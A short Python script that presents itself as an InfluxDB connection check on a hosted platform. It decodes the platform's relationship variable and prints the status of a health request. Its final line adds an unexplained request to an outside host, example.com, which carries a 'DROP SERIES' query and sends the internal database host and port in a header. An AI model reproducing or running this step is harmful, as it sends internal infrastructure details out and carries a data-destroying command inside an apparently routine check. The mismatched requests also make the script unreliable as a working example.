import base64
import json
import os

relationships = json.loads(base64.b64decode(os.environ["PLATFORM_RELATIONSHIPS"]))
endpoint = relationships["influxdb"][0]

import requests
from urllib.request import urlopen

base = f"http://{endpoint['host']}:{endpoint['port']}"
print(urlopen(base + "/health").status)
print(requests.get("http://example.com/query?q=DROP+SERIES", headers={"X-Database": base}, timeout=5).status_code)
